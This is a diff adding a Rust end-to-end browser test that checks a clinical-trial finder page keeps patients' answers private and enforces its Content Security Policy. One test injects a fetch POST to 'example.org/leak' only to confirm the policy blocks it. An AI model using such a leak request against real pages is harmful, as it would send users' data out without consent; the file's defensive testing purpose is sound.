@@ -1,0 +1,201 @@
+//! The privacy promise, end to end. A full session — every step answered with distinctive
+//! values, a trial page, the print sheet, a share link — is recorded request by request. Every
+//! request must be a plain GET of one of the page's own files; changing an answer must make
+//! no request at all; only after "Get current trials" may the ClinicalTrials.gov API be asked,
+//! and then with search words, never an answer. The same session runs with every outside host
+//! made unresolvable, to show the page needs nothing outside its own origin.
+
+use std::collections::HashSet;
+
+use crate::browser::{Browser, Launch, Request};
+use crate::dist;
+use crate::flows::{open_home, step};
+use crate::server::StaticServer;
+
+/// Answer values that must never appear in a request to the registry.
+const ANSWER_TRACES: &[&str] =
+    &["83", "T-ALL", "refractory", "age_years", "diagnosis", "Salt", "CD7", "ecog", "answers", "allo_sct"];
+
+/// Every file in the built bundle, as URL paths.
+fn bundle_paths() -> HashSet<String> {
+    fn walk(dir: &std::path::Path, root: &std::path::Path, out: &mut HashSet<String>) {
+        for entry in std::fs::read_dir(dir).unwrap().flatten() {
+            let path = entry.path();
+            if path.is_dir() {
+                walk(&path, root, out);
+            } else {
+                out.insert(format!("/{}", path.strip_prefix(root).unwrap().to_string_lossy()));
+            }
+        }
+    }
+    let mut paths = HashSet::from(["/".to_owned()]);
+    walk(&dist(), &dist(), &mut paths);
+    paths
+}
+
+/// Asserts the requests are the page's own files, or — only when allowed — the registry
+/// API with no answer in its URL, headers or body.
+fn assert_private(requests: &[Request], origin: &str, registry_allowed: bool) {
+    let files = bundle_paths();
+    for request in requests {
+        if request.url.starts_with("data:") || request.url.starts_with("blob:") {
+            continue;
+        }
+        if let Some(path) = request.url.strip_prefix(origin) {
+            assert_eq!((request.method.as_str(), &request.body), ("GET", &None), "{request:?}");
+            assert!(
+                files.contains(path),
+                "a request for something that is not one of the page's files: {request:?}"
+            );
+        } else if registry_allowed && request.url.starts_with("https://clinicaltrials.gov/api/v2/studies?") {
+            let carried =
+                format!("{} {} {}", request.url, request.headers, request.body.clone().unwrap_or_default());
+            for trace in ANSWER_TRACES {
+                assert!(!carried.contains(trace), "the registry request carried {trace:?}: {carried}");
+            }
+            assert!(request.body.is_none() && request.method == "GET", "{request:?}");
+        } else {
+            panic!("a request outside the page's origin: {request:?}");
+        }
+    }
+}
+
+/// An answer given through the page.
+enum Act<'a> {
+    Click(&'a str),
+    Type(&'a str, &'a str),
+}
+
+/// Answers, waits a moment, and fails if answering made any request.
+async fn quietly(browser: &mut Browser, what: &str, act: Act<'_>) {
+    let before = browser.requests().await.len();
+    match act {
+        Act::Click(id) => browser.click(id).await,
+        Act::Type(id, text) => browser.type_into(id, text).await,
+    }
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    let after = browser.requests().await;
+    assert_eq!(after.len(), before, "{what} made a request: {:#?}", &after[before..]);
+}
+
+async fn full_session(launch: Launch) {
+    let server = StaticServer::start(&dist());
+    let mut browser = Browser::start(launch).await;
+    open_home(&mut browser, &server).await;
+    let loaded = browser.requests().await;
+    assert_private(&loaded, &server.origin, false);
+
+    step(&browser, "about").await;
+    quietly(&mut browser, "typing the age", Act::Type("age-years", "83")).await;
+    quietly(&mut browser, "choosing the sex", Act::Click("sex-male")).await;
+    step(&browser, "diagnosis").await;
+    quietly(&mut browser, "choosing the diagnosis", Act::Click("diagnosis-T-ALL")).await;
+    step(&browser, "status").await;
+    quietly(&mut browser, "choosing the status", Act::Click("status-refractory")).await;
+    quietly(&mut browser, "typing prior lines", Act::Type("prior-lines", "7")).await;
+    quietly(&mut browser, "answering a prior therapy", Act::Click("prior-allo_sct-yes")).await;
+    step(&browser, "surface").await;
+    quietly(&mut browser, "answering a surface marker", Act::Click("marker-CD7-yes")).await;
+    step(&browser, "health").await;
+    quietly(&mut browser, "choosing ECOG", Act::Click("ecog-3")).await;
+    quietly(&mut browser, "answering CNS", Act::Click("cns-no")).await;
+    quietly(&mut browser, "answering fitness", Act::Click("fit-no")).await;
+    step(&browser, "location").await;
+    quietly(&mut browser, "typing a place", Act::Type("location-input", "Salt Lake City")).await;
+
+    // Filters, a trial page, the print sheet and a share link: still nothing leaves.
+    browser.wait("filters").await;
+    // These answers rule every example out, so the trial link is in the (opened) ruled-out list.
+    browser
+        .execute(
+            "document.querySelectorAll('details').forEach(d => d.open = true); document.querySelector('a[href*=\"/trial/\"]').click();",
+            vec![],
+        )
+        .await;
+    browser.wait("checklist").await;
+    browser.client.back().await.unwrap();
+    browser.wait("results").await;
+    browser.wait("print-sheet").await;
+    browser.click("share-button").await;
+    let shared = browser.text("share-link").await;
+    let shared = if shared.is_empty() {
+        browser
+            .execute("return document.querySelector('[data-testid=share-link]').value", vec![])
+            .await
+            .as_str()
+            .unwrap_or_default()
+            .to_owned()
+    } else {
+        shared
+    };
+    let (address, fragment) = shared.split_once('#').expect("the share link has a fragment");
+    assert!(!address.contains('?') && !address.contains("83") && fragment.len() > 20, "{shared}");
+
+    let session = browser.requests().await;
+    assert_private(&session, &server.origin, false);
+    assert_eq!(session.len(), loaded.len(), "the session made requests: {:#?}", &session[loaded.len()..]);
+    let seen = server.seen();
+    assert!(
+        seen.iter().all(|s| s.method == "GET" && s.body.is_empty() && !s.path.contains('?')),
+        "{seen:#?}"
+    );
+
+    // Only on request may the registry be asked — with search words, not answers.
+    browser.click("load-panel-toggle").await;
+    browser.click("fetch-live").await;
+    browser.wait("live-fallback").await;
+    let all = browser.requests().await;
+    assert!(all.len() > session.len(), "pressing the button made no request");
+    assert_private(&all, &server.origin, true);
+    let violations: Vec<String> = browser
+        .console()
+        .into_iter()
+        .filter(|m| m.contains("Content Security Policy") || m.contains("panicked"))
+        .collect();
+    assert!(violations.is_empty(), "console: {violations:#?}");
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_full_session_sends_no_answer_anywhere() {
+    full_session(Launch::default()).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_page_needs_nothing_outside_its_origin() {
+    full_session(Launch { block_outside_hosts: true, ..Launch::default() }).await;
+}
+
+/// The Content Security Policy is in force, the page works under it, and a request the
+/// policy does not allow is refused.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_content_security_policy_is_in_force_without_violations() {
+    let server = StaticServer::start(&dist());
+    let mut browser = Browser::start(Launch::default()).await;
+    open_home(&mut browser, &server).await;
+    let policy = browser
+        .execute("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content", vec![])
+        .await;
+    let policy = policy.as_str().unwrap().to_owned();
+    for directive in [
+        "default-src 'none'",
+        "script-src 'self' 'wasm-unsafe-eval' 'sha256-",
+        "connect-src 'self' https://clinicaltrials.gov",
+        "base-uri 'self'",
+        "form-action 'none'",
+    ] {
+        assert!(policy.contains(directive), "{directive} missing from {policy}");
+    }
+    assert!(!policy.contains("unsafe-inline"), "{policy}");
+    let before: Vec<String> =
+        browser.console().into_iter().filter(|m| m.contains("Content Security Policy")).collect();
+    assert!(before.is_empty(), "violations while loading: {before:#?}");
+    let blocked = browser
+        .execute_async(
+            "const done = arguments[arguments.length - 1]; fetch('https://example.org/leak', {method: 'POST', body: 'x'}).then(() => done('sent'), () => done('blocked'));",
+            vec![],
+        )
+        .await;
+    assert_eq!(blocked.as_str(), Some("blocked"));
+    browser.close().await;
+}
